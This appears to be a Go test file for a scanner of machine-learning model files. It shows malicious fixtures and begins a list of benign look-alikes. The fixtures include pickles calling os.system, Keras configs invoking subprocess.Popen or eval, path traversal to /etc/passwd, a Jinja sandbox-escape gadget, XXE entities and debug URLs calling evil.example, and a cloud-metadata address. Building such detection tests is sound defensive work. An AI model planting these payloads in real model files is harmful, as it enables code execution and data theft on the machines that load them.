package artifact

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"
)

// madeFile is a file made by the tests, with what is to be said of it.
type madeFile struct {
	// name is the path, which counts for some formats, and says what the file is about.
	name    string
	content []byte
	// kind and what are the kind of the dangerous fact and a part of its name, arguments or reason.
	kind Kind
	what string
}

func (m madeFile) base() string { return m.name[strings.LastIndex(m.name, ":")+1:] }

func dangers(r *Report) []Fact {
	var out []Fact
	for _, f := range r.Facts {
		if f.Verdict == Dangerous {
			out = append(out, f)
		}
	}
	return out
}

func lambdaLayer(function any, more ...string) tree {
	config := tree{"name": "evil", "function": function}
	for i := 0; i < len(more); i += 2 {
		config[more[i]] = more[i+1]
	}
	return tree{"class_name": "Lambda", "module": "keras.layers", "config": config}
}

func sequential(layers ...any) string {
	list := []any{tree{"class_name": "InputLayer", "module": "keras.layers", "config": tree{"name": "input"}}}
	return asJSON(tree{"class_name": "Sequential", "module": "keras", "config": tree{"name": "sequential", "layers": append(list, layers...)},
		"compile_config": tree{"loss": "mse", "optimizer": tree{"class_name": "Adam", "module": "keras.optimizers", "config": tree{}}}})
}

func functionOf(module, name string) tree {
	return tree{"class_name": "function", "module": module, "config": name, "registered_name": name}
}

const marshalled = "4wEAAAAAAAAAAAAAAAAAAAABAAAAAwAAAPMKAAAAlwBkAVMA\n"

var newLambda = tree{"class_name": "__lambda__", "config": tree{"code": marshalled, "defaults": nil, "closure": nil}}

// zipOf is an archive of members: name, content, name, content.
func zipOf(members ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(members); i += 2 {
		f, err := w.CreateHeader(&zip.FileHeader{Name: members[i], Method: zip.Store})
		if err != nil {
			panic(err)
		}
		if _, err := f.Write([]byte(members[i+1])); err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func kerasFile(config string) []byte {
	return zipOf("metadata.json", `{"keras_version": "3.9.0"}`, "config.json", config)
}

func utf16File(s string) []byte {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// deepNodes nests a node in graphs of attributes.
func deepNodes(n int, inside proto) proto {
	for range n {
		inside = onnxNodeOf("", "If", proto{}.str(onnxAttributeName, "then_branch").msg(onnxAttributeGraph, inside))
	}
	return inside
}

func debugNode(op string, url string) proto {
	return tfNodeOf(op, "T", proto{}.num(6, 1), "debug_urls", proto{}.msg(tfAttrList, proto{}.str(tfListBytes, url)))
}

const gadget = `{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}`

func maliciousFiles() []madeFile {
	out := []madeFile{
		// ONNX
		{"parent:m.onnx", onnxModel(onnxWeights("../../../etc/passwd")), OutsidePath, "../../../etc/passwd"},
		{"absolute:m.onnx", onnxModel(onnxWeights("/etc/passwd")), OutsidePath, "/etc/passwd"},
		{"drive:m.onnx", onnxModel(onnxWeights(`C:\Windows\win.ini`)), OutsidePath, "C:"},
		{"share:m.onnx", onnxModel(onnxWeights(`\\server\share\w.bin`)), OutsidePath, "server"},
		{"backslashes:m.onnx", onnxModel(onnxWeights(`data\..\..\w.bin`)), OutsidePath, "data"},
		{"middle:m.onnx", onnxModel(onnxWeights("data/../../w.bin")), OutsidePath, "data"},
		{"last:m.onnx", onnxModel(onnxWeights("data/..")), OutsidePath, "data/.."},
		{"long:m.onnx", onnxModel(onnxWeights(strings.Repeat("a/", 40_000) + "b")), OutsidePath, "a/a"},
		{"memory:m.onnx", onnxModel(onnxWeights(onnxMemory)), MemoryAddress, ""},
		{"subgraph:m.onnx", onnxModel(deepNodes(20, onnxWeights("../w"))), OutsidePath, "../w"},
		{"constant:m.onnx", onnxModel(onnxNodeOf("", "Constant", proto{}.str(1, "value").msg(onnxAttributeTensor, onnxExternal("../w")))), OutsidePath, "../w"},
		{"tensors:m.onnx", onnxModel(onnxNodeOf("", "X", proto{}.str(1, "values").msg(onnxAttributeTensors, onnxExternal("../w")))), OutsidePath, "../w"},
		{"sparse:m.onnx", onnxModel(proto{}.msg(onnxGraphSparse, proto{}.msg(onnxSparseValues, onnxExternal("../w")))), OutsidePath, "../w"},
		{"indices:m.onnx", onnxModel(proto{}.msg(onnxGraphSparse, proto{}.msg(onnxSparseIndices, onnxExternal("../w")))), OutsidePath, "../w"},
		{"sparse attribute:m.onnx", onnxModel(onnxNodeOf("", "Constant", proto{}.str(1, "v").msg(onnxAttributeSparse, proto{}.msg(onnxSparseValues, onnxExternal("../w"))))), OutsidePath, "../w"},
		{"function:m.onnx", onnxModel().msg(onnxModelFunctions, proto{}.str(1, "f"), onnxFunctionNodeOf("../w")), OutsidePath, "../w"},
		{"training:m.onnx", onnxModel().msg(onnxModelTraining, proto{}.msg(onnxTrainingAlgorithm, onnxWeights("../w"))), OutsidePath, "../w"},
		{"in two pieces:m.onnx", onnxModel(onnxNodeOf("", "Constant", proto{}.str(1, "value").
			msg(onnxAttributeTensor, proto{}.num(onnxTensorLocation, 1)).
			msg(onnxAttributeTensor, proto{}.msg(onnxTensorExternal, proto{}.str(1, "location").str(2, "../w"))))), OutsidePath, "../w"},
		{"graph in two pieces:m.onnx", onnxModel(onnxNodeOf("", "Relu")).msg(onnxModelGraph, onnxWeights("../w")), OutsidePath, "../w"},
		{"groups between:m.onnx", proto{}.group(99, proto{}.group(98, proto{}.str(97, "x"))).group(99, proto{}.num(1, 2)).msg(onnxModelGraph, onnxWeights("../w")), OutsidePath, "../w"},
		{"wide enum:m.onnx", onnxModel(proto{}.msg(onnxGraphInitializer, proto{}.msg(onnxTensorExternal, proto{}.str(1, "location").str(2, "../w")).num(onnxTensorLocation, 1<<32|1))), OutsidePath, "../w"},
		{"another name:weights.dat", onnxModel(onnxWeights("../w")), OutsidePath, "../w"},
		{"two locations:m.onnx", onnxModel(proto{}.msg(onnxGraphInitializer, onnxExternal("../w").msg(onnxTensorExternal, proto{}.str(1, "location").str(2, "w.bin")))), OutsidePath, "../w"},
		{"python:m.onnx", onnxModel(onnxNodeOf("ai.onnx.contrib", "PyCustomOpDef")), PythonOperator, "ai.onnx.contrib"},
		{"torch function:m.onnx", onnxModel(onnxNodeOf("com.microsoft", "PythonOp")), PythonOperator, "PythonOp"},
		{"context:m.onnx", onnxModel(onnxNodeOf("com.microsoft", "EPContext", proto{}.str(1, "ep_cache_context").str(onnxAttributeString, "../../x.bin"))), OutsidePath, "../../x.bin"},
		{"in a zip:m.zip", zipOf("model/m.onnx", string(onnxModel(onnxWeights("../w")))), OutsidePath, "../w"},

		{"with a zip behind:m.onnx", append(onnxModel(onnxWeights("../w")), proto{}.str(100, string(zipOf("a.txt", "x")))...), OutsidePath, "../w"},
		{"like a pickle:m.onnx", append([]byte{0x80, 0x02, 0x4e}, onnxModel(onnxWeights("../w"))...), OutsidePath, "../w"},
		{"like zlib:m.onnx", append([]byte{0x78, 0x9c, 0x01}, onnxModel(onnxWeights("../w"))...), OutsidePath, "../w"},
		{"another ending:m.pb", onnxModel(onnxWeights("../w")), OutsidePath, "../w"},

		// Files of two formats
		{"pickle behind GGUF:m.pkl", []byte("GGUF\x03\x00\x00\x000cos\nsystem\n(S'id'\ntR."), Call, "os.system"},
		{"pickle behind TFLite:m.pkl", []byte("\x80\x04\x8c\x05TFL3x0cos\nsystem\n(S'id'\ntR."), Call, "os.system"},
		{"pickle behind a program:m.pkl", append(append([]byte("MZ\x000B\x7b\x00\x00\x00"), executableTail()...), "0cos\nsystem\n(S'id'\ntR."...), Call, "os.system"},
		{"zip with bytes before and a comment:m.keras", append([]byte("before"), withComment(kerasFile(sequential(lambdaLayer(newLambda))))...), Lambda, "evil"},
		{"zip behind HDF5:m.keras", append(hdf5File("latest_honest"), kerasFile(sequential(lambdaLayer(newLambda)))...), Lambda, "evil"},
		{"HDF5 behind a zip:m.h5", append(append(zipOf("a", "x"), make([]byte, 512-len(zipOf("a", "x")))...), hdf5File("earliest_plain")...), Lambda, "evil"},
		{"HDF5 at 512 under another name:m.dat", append(make([]byte, 512), hdf5File("earliest_plain")...), Lambda, "evil"},

		// GraphDef and SavedModel
		{"nothing read before:saved_model.pb", savedModel(tfGraphOf(tfNodeOf("ReadFile"))), FileOperator, "reads any file"},
		{"in the library:saved_model.pb", savedModel(tfFunctionOf(tfNodeOf("WriteFile"))), FileOperator, "writes any file"},
		{"two metagraphs:saved_model.pb", savedModel(tfGraphOf()).msg(tfSavedMetaGraphs, proto{}.msg(tfMetaGraph, tfGraphOf(tfNodeOf("EagerPyFunc")))), PythonOperator, "Python"},
		{"without a version:saved_model.pb", proto{}.msg(tfSavedMetaGraphs, proto{}.msg(tfMetaGraph, tfGraphOf(tfNodeOf("PyFunc")))), PythonOperator, "Python"},
		{"asset:saved_model.pb", savedModel(tfGraphOf(), proto{}.msg(tfMetaAsset, proto{}.str(tfAssetFilename, "../../etc/shadow"))), OutsidePath, "shadow"},
		{"debugger:saved_model.pb", savedModel(tfGraphOf(debugNode("DebugIdentityV3", "grpc://evil.example:4444"))), NetworkOperator, "evil.example"},
		{"debugger to a file:saved_model.pb", savedModel(tfGraphOf(debugNode("DebugIdentityV2", "file:///tmp/x"))), NetworkOperator, "/tmp/x"},
		{"print:saved_model.pb", savedModel(tfGraphOf(tfNodeOf("PrintV2", "output_stream", proto{}.str(tfAttrBytes, "file:///root/.bashrc")))), FileOperator, ".bashrc"},
		{"in a zip:model.zip", zipOf("model/saved_model.pb", string(savedModel(tfGraphOf(tfNodeOf("ReadFile"))))), FileOperator, "reads"},
		{"graph in a constant:frozen.pb", tfGraphOf(tfNodeOf("Const", "value", proto{}.msg(tfAttrTensor, proto{}.num(1, 7).str(tfTensorStrings, string(tfGraphOf(tfNodeOf("ReadFile")))))), tfNodeOf("DatasetFromGraph")), FileOperator, "reads"},
		{"old names:saved_model.pbtxt", []byte("saved_model_schema_version: 1\nmeta_graphs { graph_def { library { function { node_def { name: 'a' op: 'MatchingFiles' } } } } }"), FileOperator, "lists"},
		{"spelt in pieces:saved_model.pbtxt", []byte("meta_graphs: < graph_def: < node: [ < name: \"a\" op: \"Re\" 'ad' # comment }\n \"Fi\\x6ce\" > ] > >"), FileOperator, "reads"},
		{"value before key:saved_model.pbtxt", []byte(`meta_graphs { graph_def { node { op: "PrintV2" attr { value { s: "file:///x" } key: "output_stream" } } } }`), FileOperator, "file:///x"},
		{"text debugger:saved_model.pbtxt", []byte(`meta_graphs { graph_def { node { op: "DebugIdentityV2" attr { key: "debug_urls" value { list { s: "grpc://e" } } } } } }`), NetworkOperator, "grpc://e"},
		{"frozen text:graph.pbtxt", []byte(`node { name: "x" op: "WriteFile" input: "a" }` + "\nversions { producer: 1 }"), FileOperator, "writes"},
		{"metagraph:model.ckpt.meta", proto{}.msg(tfMetaInfo, proto{}.str(4, "x")).msg(tfMetaGraph, tfGraphOf(tfNodeOf("PyFuncStateless"))), PythonOperator, "Python"},
		{"unknown field first:frozen.pb", append(proto{}.str(77, "x"), tfGraphOf(tfNodeOf("ReadFile"))...), FileOperator, "reads"},

		// Keras
		{"lambda of Keras 3:m.keras", kerasFile(sequential(lambdaLayer(newLambda))), Lambda, "marshalled"},
		{"lambda of Keras 2:m.keras", kerasFile(sequential(lambdaLayer([]any{marshalled, nil, nil}, "function_type", "lambda"))), Lambda, "marshalled"},
		{"tuple:m.keras", kerasFile(sequential(lambdaLayer(tree{"class_name": "__tuple__", "items": []any{marshalled, nil, nil}}))), Lambda, "marshalled"},
		{"type alone:m.keras", kerasFile(sequential(lambdaLayer("abc", "function_type", "lambda"))), Lambda, "evil"},
		{"source:m.keras", kerasFile(sequential(lambdaLayer("lambda x: eval('x')"))), Lambda, "source"},
		{"output shape:m.keras", kerasFile(sequential(tree{"class_name": "Lambda", "config": tree{"name": "evil", "function": "f", "function_type": "function", "output_shape": []any{marshalled, nil, nil}, "output_shape_type": "lambda"}})), Lambda, "output_shape"},
		{"mask:m.keras", kerasFile(sequential(tree{"class_name": "Lambda", "config": tree{"name": "evil", "function": "f", "mask": newLambda}})), Lambda, "evil"},
		{"nested model:m.keras", kerasFile(sequential(tree{"class_name": "TimeDistributed", "config": tree{"layer": lambdaLayer(newLambda)}})), Lambda, "evil"},
		{"lambda as a loss:m.keras", kerasFile(asJSON(tree{"class_name": "Sequential", "config": tree{}, "compile_config": tree{"loss": newLambda}})), Lambda, "marshalled"},
		{"registered:m.keras", kerasFile(sequential(tree{"class_name": "keras.layers>Lambda", "config": tree{"name": "evil", "function": []any{marshalled, nil, nil}}})), Lambda, "evil"},
		{"not a number:m.keras", kerasFile(`{"class_name": "S", "x": NaN, "config": {"layers": [` + asJSON(lambdaLayer(newLambda)) + `], "y": -Infinity}}`), Lambda, "evil"},
		{"wide characters:m.keras", kerasFile(string(utf16File(sequential(lambdaLayer(newLambda))))), Lambda, "evil"},
		{"byte order mark:m.keras", kerasFile("\xef\xbb\xbf" + sequential(lambdaLayer(newLambda))), Lambda, "evil"},
		{"escapes:m.keras", kerasFile(strings.ReplaceAll(sequential(lambdaLayer(newLambda)), "__lambda__", `\u005f_lambda__`)), Lambda, "evil"},
		{"key twice:m.keras", kerasFile(`{"class_name": "Dense", "class_name": "Lambda", "config": {"name": "evil", "function": ["` + strings.TrimSpace(marshalled) + `", null, null]}}`), Lambda, "evil"},
		{"CVE-2025-1550:m.keras", kerasFile(sequential(tree{"class_name": "function", "module": "subprocess", "config": "Popen", "registered_name": "function"})), ConfigCall, "subprocess.Popen"},
		{"class of os:m.keras", kerasFile(sequential(tree{"class_name": "system", "module": "os", "config": tree{}})), ConfigCall, "os.system"},
		{"builtins:m.keras", kerasFile(sequential(functionOf("builtins", "eval"))), ConfigCall, "builtins.eval"},
		{"submodule:m.keras", kerasFile(sequential(functionOf("importlib._bootstrap", "_call_with_frames_removed"))), ConfigCall, "importlib"},
		{"CVE-2025-9906:m.keras", kerasFile(sequential(lambdaLayer(functionOf("keras.config", "enable_unsafe_deserialization")))), ConfigCall, "safe mode"},
		{"CVE-2025-9906 from within:m.keras", kerasFile(sequential(lambdaLayer(functionOf("keras.src.backend.common.global_state", "set_global_attribute")))), ConfigCall, "safe mode"},
		{"CVE-2025-8747:m.keras", kerasFile(sequential(lambdaLayer(functionOf("keras.utils", "get_file")))), ConfigCall, "downloads"},
		{"door:m.keras", kerasFile(sequential(lambdaLayer(functionOf("keras.src.utils.file_utils", "rmtree")))), ConfigCall, "rmtree"},
		{"re-exported:m.keras", kerasFile(sequential(lambdaLayer(functionOf("keras.src.utils.file_utils", "urlretrieve")))), ConfigCall, "downloads"},
		{"numpy:m.keras", kerasFile(sequential(functionOf("numpy", "load"))), ConfigCall, "numpy.load"},
		{"second model:m.keras", kerasFile(sequential(lambdaLayer(functionOf("keras.models", "load_model")))), ConfigCall, "another model"},
		{"CVE-2025-49655:m.keras", kerasFile(sequential(tree{"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": tree{"module": "gAJjX19i"}})), Lambda, "pickled"},
		{"CVE-2025-12058:m.keras", kerasFile(sequential(tree{"class_name": "StringLookup", "module": "keras.layers", "config": tree{"name": "x", "vocabulary": "/etc/passwd"}})), ConfigCall, "vocabulary"},
		{"vocabulary from an address:m.keras", kerasFile(sequential(tree{"class_name": "TextVectorization", "module": "keras.layers", "config": tree{"vocabulary": "http://169.254.169.254/latest"}})), ConfigCall, "169.254"},
		{"behind a mass:m.keras", kerasFile(`{"class_name":"M","config":{"x":[` + strings.Repeat("1,{},[],", 300_000) + `0],"layers":[` + asJSON(lambdaLayer(newLambda)) + `]}}`), Lambda, "evil"},
		{"behind depth:m.keras", kerasFile(`{"class_name":"M","x":` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + `,"config":{"layers":[` + asJSON(lambdaLayer(newLambda)) + `]}}`), Lambda, "evil"},
		{"loose:config.json", []byte(sequential(lambdaLayer(newLambda))), Lambda, "evil"},
		{"metadata:keras_metadata.pb", proto{}.msg(1, proto{}.num(2, 0).str(3, "root").str(4, "_tf_keras_model").str(5, sequential(lambdaLayer([]any{marshalled, nil, nil})))), Lambda, "evil"},
		{"object graph:saved_model.pb", savedModel(tfGraphOf(), proto{}.msg(tfMetaObjects, proto{}.msg(tfObjectsNodes, proto{}.msg(tfObjectUser, proto{}.str(1, "_tf_keras_model").str(tfUserMetadata, sequential(lambdaLayer([]any{marshalled, nil, nil}))))))), Lambda, "evil"},

		// TensorFlow Lite
		{"Python:m.tflite", flatModel([2]string{"FlexPyFunc", ""}), PythonOperator, "FlexPyFunc"},
		{"file:m.tflite", flatModel([2]string{"TFLite_Detection_PostProcess", ""}, [2]string{"FlexReadFile", ""}), FileOperator, "FlexReadFile"},
		{"another name:m.bin", flatModel([2]string{"FlexImmutableConst", ""}), FileOperator, "FlexImmutableConst"},
		{"name in the options:m.tflite", flatModel([2]string{"FlexErf", flexOptions("WriteFile", tfNodeOf("Erf"))}), FileOperator, "FlexWriteFile"},
		{"zero byte:m.tflite", flatModel([2]string{"FlexReadFile\x00Erf", ""}), FileOperator, "FlexReadFile"},
		{"another mark:m.tflite", bytes.Replace(flatModel([2]string{"FlexReadFile", ""}), []byte("TFL3"), []byte("TFL2"), 1), FileOperator, "FlexReadFile"},
		{"node in the options:m.tflite", flatModel([2]string{"FlexErf", flexOptions("Erf", tfNodeOf("EagerPyFunc"))}), PythonOperator, "FlexEagerPyFunc"},

		// Templates
		{"template:m.gguf", ggufFile(binary.LittleEndian, 3, "general.architecture", "llama", "tokenizer.ggml.tokens", []string{"a", "b", ""}, "tokenizer.chat_template", gadget), Gadget, "__class__"},
		{"named template:m.gguf", ggufFile(binary.LittleEndian, 3, "tokenizer.ggml.scores", []float32{1, 2}, "tokenizer.chat_template.tool_use", gadget), Gadget, "__class__"},
		{"first version:m.gguf", ggufFile(binary.LittleEndian, 1, "tokenizer.chat_template", gadget), Gadget, "__class__"},
		{"big endian:m.gguf", ggufFile(binary.BigEndian, 3, "a", uint32(7), "tokenizer.chat_template", gadget), Gadget, "__class__"},
		{"arrays of arrays:m.gguf", ggufFile(binary.LittleEndian, 3, "a", nestedArrays(), "tokenizer.chat_template", gadget), Gadget, "__class__"},
		{"another name:m.dat", ggufFile(binary.LittleEndian, 2, "tokenizer.chat_template", gadget), Gadget, "__class__"},
		{"tokenizer:tokenizer_config.json", []byte(asJSON(tree{"chat_template": gadget})), Gadget, "__class__"},
		{"named:tokenizer_config.json", []byte(asJSON(tree{"chat_template": []any{tree{"name": "default", "template": "{{ x }}"}, tree{"name": "rag", "template": gadget}}})), Gadget, "__class__"},
		{"processor:model/processor_config.json", []byte(asJSON(tree{"chat_template": gadget})), Gadget, "__class__"},
		{"template file:model/chat_template.json", []byte(asJSON(tree{"chat_template": gadget})), Gadget, "__class__"},
		{"jinja:model/chat_template.jinja", []byte(gadget), Gadget, "__class__"},
		{"additional:model/additional_chat_templates/rag.jinja", []byte(gadget), Gadget, "__class__"},
		{"escaped in JSON:tokenizer_config.json", []byte(`{"chat_template": "{{ x.\u005f\u005fclass__ }}"}`), Gadget, "__class__"},
		{"escaped twice:tokenizer_config.json", []byte(`{"chat_template": "{{ x['\\x5f_class__'] }}"}`), Gadget, "__class__"},

		// safetensors
		{"gap:m.safetensors", safetensorsFile(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[40,48]}}`, 48), Inconsistent, "belong to no tensor"},
		{"behind:m.safetensors", safetensorsFile(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, 80), Inconsistent, "behind"},
		{"overlap:m.safetensors", safetensorsFile(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}`, 12), Inconsistent, "overlap"},
		{"twice:m.safetensors", safetensorsFile(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}`, 2), Inconsistent, "twice"},
		{"twice within:m.safetensors", safetensorsFile(`{"a":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}}`, 1), Inconsistent, "twice"},
		{"twice by escape:m.safetensors", safetensorsFile(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}`, 2), Inconsistent, "twice"},
		{"outside:m.safetensors", safetensorsFile(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, 4), Inconsistent, "of 4 bytes"},
		{"backwards:m.safetensors", safetensorsFile(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}`, 8), Inconsistent, "after its end"},
		{"size:m.safetensors", safetensorsFile(`{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}`, 8), Inconsistent, "need 12"},
		{"huge shape:m.safetensors", safetensorsFile(`{"a":{"dtype":"F32","shape":[4294967296,4294967296,4],"data_offsets":[0,8]}}`, 8), Inconsistent, "no memory"},
		{"list:m.safetensors", safetensorsFile(`[]`, 0), Inconsistent, "brace"},
		{"blank first:m.safetensors", safetensorsFile(` {}`, 0), Inconsistent, "brace"},
		{"broken:m.safetensors", safetensorsFile(`{"a":`, 0), Inconsistent, "no JSON"},
		{"not UTF-8:m.safetensors", safetensorsFile("{\"a\xff\":{}}", 0), Inconsistent, "no JSON"},
		{"two objects:m.safetensors", safetensorsFile(`{}{}`, 0), Inconsistent, "behind the object"},
		{"long header:m.safetensors", append(binary.LittleEndian.AppendUint64(nil, 1<<60), '{', '}'), Inconsistent, "claims a header"},
		{"longer than the file:m.safetensors", append(binary.LittleEndian.AppendUint64(nil, 100), '{', '}'), Inconsistent, "claims a header"},
		{"short:m.safetensors", []byte("{}"), Inconsistent, "shorter"},
		{"number for a tensor:m.safetensors", safetensorsFile(`{"a":1}`, 0), Inconsistent, "no tensor"},
		{"no shape:m.safetensors", safetensorsFile(`{"a":{"dtype":"U8","data_offsets":[0,1]}}`, 1), Inconsistent, "other things"},
		{"negative:m.safetensors", safetensorsFile(`{"a":{"dtype":"U8","shape":[-1],"data_offsets":[0,1]}}`, 1), Inconsistent, "other things"},
		{"metadata of numbers:m.safetensors", safetensorsFile(`{"__metadata__":{"a":1}}`, 0), Inconsistent, "no text"},
		{"zeros:m.safetensors", make([]byte, 64), Inconsistent, "brace"},

		// XML
		{"entity:m.pmml", []byte(`<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>`), Entity, "file:///etc/passwd"},
		{"parameter entity:m.pmml", []byte("<!DOCTYPE PMML [\n<!-- > SYSTEM \"no\" -->\n<!ENTITY % x PUBLIC 'id' 'http://evil.example/x.dtd'> %x; ]><PMML/>"), Entity, "evil.example"},
		{"document type:m.pmml", []byte(`<!DOCTYPE PMML SYSTEM "http://evil.example/pmml.dtd"><PMML/>`), Entity, "evil.example"},
		{"wide characters:m.pmml", utf16File(`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "http://e/"><PMML/>`), Entity, "http://e/"},
		{"openvino:m.xml", []byte(`<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///x">]><net name="x" version="11"></net>`), Entity, "file:///x"},

		// Zarr
		{"filter:a/.zarray", []byte(`{"zarr_format": 2, "dtype": "|O", "compressor": null, "filters": [{"id": "shuffle"}, {"id": "pickle", "protocol": 5}]}`), PickleCodec, "pickles"},
		{"compressor:.zarray", []byte(`{"compressor": {"protocol": 4, "id": "pickle"}, "filters": null}`), PickleCodec, "pickles"},
		{"consolidated:.zmetadata", []byte(`{"metadata": {".zgroup": {}, "x/.zarray": {"filters": null}, "y/z/.zarray": {"filters": [{"id": "pickle"}]}}, "zarr_consolidated_format": 1}`), PickleCodec, "y/z"},
		{"store in a zip:s.zip", zipOf("captions/.zarray", `{"filters": [{"id": "pickle"}]}`), PickleCodec, "pickles"},

		// Core ML
		{"linked:m.mlmodel", proto{}.num(1, 3).msg(coreLinkedModel, proto{}.msg(1, proto{}.msg(1, proto{}.str(1, "../../x.mlmodel")))), OutsidePath, "../../x"},
	}
	for _, name := range []string{"earliest_plain", "latest_plain", "latest_many", "tracked_many", "userblock_plain", "latest_huge"} {
		out = append(out, madeFile{name + ":m.h5", hdf5File(name), Lambda, "evil"})
	}
	return append(out, maliciousArchives()...)
}

// withComment gives a zip a comment.
func withComment(b []byte) []byte {
	b = bytes.Clone(b)
	b[len(b)-2] = 7
	return append(b, "comment"...)
}

// hdf5File is a file of testdata.
func hdf5File(name string) []byte {
	b, err := os.ReadFile(filepath.Join("testdata/hdf5", name+".h5"))
	if err != nil {
		panic(err)
	}
	return b
}

// executableTail is what makes the 9 bytes of a pickle before it look like a program of Windows.
func executableTail() []byte {
	b := make([]byte, 0x7b)
	b[0x3c-9] = 0x80
	copy(b[0x80-9:], "PE\x00\x00")
	return b
}

// nestedArrays is a GGUF value: two arrays of two numbers.
func nestedArrays() []byte {
	b := []byte{9, 0, 0, 0, 9, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0}
	for range 2 {
		b = append(b, 0, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 7, 7)
	}
	return b
}

func onnxFunctionNodeOf(location string) proto {
	return proto{}.msg(onnxFunctionNode, proto{}.str(onnxNodeOp, "Constant").msg(onnxNodeAttribute, proto{}.str(1, "value").msg(onnxAttributeTensor, onnxExternal(location))))
}

// honestFiles do nothing dangerous, however they look.
func honestFiles() []madeFile {
	dense := tree{"class_name": "Dense", "module": "keras.layers", "config": tree{"name": "Lambda", "units": 3, "activation": "relu",
		"kernel_initializer": tree{"class_name": "GlorotUniform", "module": "keras.initializers", "config": tree{"seed": nil}}}}
	files := []madeFile{
		{name: "plain:m.onnx", content: onnxModel(onnxNodeOf("", "Relu"), onnxNodeOf("ai.onnx.ml", "TreeEnsembleClassifier"))},
		{name: "external data:m.onnx", content: onnxModel(onnxWeights("weights.bin"), onnxWeights("data/weights.bin"), onnxWeights("./w"), onnxWeights("a..b/w..bin"))},
		{name: "location of a tensor within:m.onnx", content: onnxModel(proto{}.msg(onnxGraphInitializer, proto{}.str(8, "../w").msg(onnxTensorExternal, proto{}.str(1, "location").str(2, "../w")).num(onnxTensorLocation, 0)))},
		{name: "another key:m.onnx", content: onnxModel(proto{}.msg(onnxGraphInitializer, proto{}.msg(onnxTensorExternal, proto{}.str(1, "basepath").str(2, "../w")).num(onnxTensorLocation, 1)))},
		{name: "words in texts:m.onnx", content: append(onnxModel(onnxNodeOf("", "Relu")), proto{}.str(6, "see ../README and /etc/passwd")...)},
		{name: "custom operator:m.onnx", content: onnxModel(onnxNodeOf("acme.ops", "Fancy"))},
		{name: "own function:m.onnx", content: onnxModel(onnxNodeOf("pkg", "F")).msg(onnxModelFunctions, proto{}.str(1, "F").str(onnxFunctionDomain, "pkg"))},
		{name: "context within:m.onnx", content: onnxModel(onnxNodeOf("com.microsoft", "EPContext", proto{}.str(1, "ep_cache_context").str(onnxAttributeString, "/\x00\x01binary")))},
		{name: "plain:saved_model.pb", content: savedModel(tfGraphOf(tfNodeOf("SaveV2"), tfNodeOf("RestoreV2"), tfNodeOf("MergeV2Checkpoints"), tfNodeOf("ShardedFilename")))},
		{name: "tables:saved_model.pb", content: savedModel(tfFunctionOf(tfNodeOf("InitializeTableFromTextFileV2"), tfNodeOf("StaticRegexReplace")), proto{}.msg(tfMetaAsset, proto{}.str(tfAssetFilename, "vocab.txt")))},
		{name: "print:saved_model.pb", content: savedModel(tfGraphOf(tfNodeOf("PrintV2", "output_stream", proto{}.str(tfAttrBytes, "stderr")), tfNodeOf("PrintV2", "output_stream", proto{}.str(tfAttrBytes, "log(info)"))))},
		{name: "debug without addresses:saved_model.pb", content: savedModel(tfGraphOf(tfNodeOf("DebugIdentityV2", "debug_urls", proto{}.msg(tfAttrList))))},
		{name: "words in constants:saved_model.pb", content: savedModel(tfGraphOf(tfNodeOf("Const", "value", proto{}.msg(tfAttrTensor, proto{}.str(tfTensorStrings, "ReadFile PyFunc")))))},
		{name: "names of nodes:frozen.pb", content: proto{}.msg(tfGraphNode, proto{}.str(tfNodeName, "ReadFile").str(tfNodeOp, "Identity"))},
		{name: "text:graph.pbtxt", content: []byte(`node { name: "ReadFile" op: "Const" attr { key: "value" value { tensor { string_val: "op: \"ReadFile\"" } } } } # op: "ReadFile"`)},
		{name: "label map:labels.pbtxt", content: []byte("item {\n  id: 1\n  name: 'person'\n}\n")},
		{name: "caffe2:predict_net.pb", content: proto{}.str(1, "net").msg(2, proto{}.str(1, "data").str(4, "ReadFile"))},
		{name: "not a graph:random.pb", content: []byte("\xff\xff\xff\xff\x00\x01")},
		{name: "plain:m.keras", content: kerasFile(sequential(dense))},
		{name: "vocabularies:m.keras", content: kerasFile(sequential(tree{"class_name": "StringLookup", "module": "keras.layers", "config": tree{"vocabulary": []any{"/etc/passwd", "://"}}},
			tree{"class_name": "StringLookup", "module": "keras.layers", "config": tree{"vocabulary": "assets/vocab.txt"}}, tree{"class_name": "StringLookup", "module": "keras.layers", "config": tree{"vocabulary": nil}}))},
		{name: "lambda by name:m.keras", content: kerasFile(sequential(lambdaLayer(functionOf("my_project.layers", "scale"))))},
		{name: "lambda by old name:m.keras", content: kerasFile(sequential(lambdaLayer("scale", "function_type", "function", "module", "my_project.layers")))},
		{name: "output shape of numbers:m.keras", content: kerasFile(sequential(tree{"class_name": "Lambda", "config": tree{"name": "x", "function": "scale", "function_type": "function", "output_shape": []any{3, 4}, "output_shape_type": "raw"}}))},
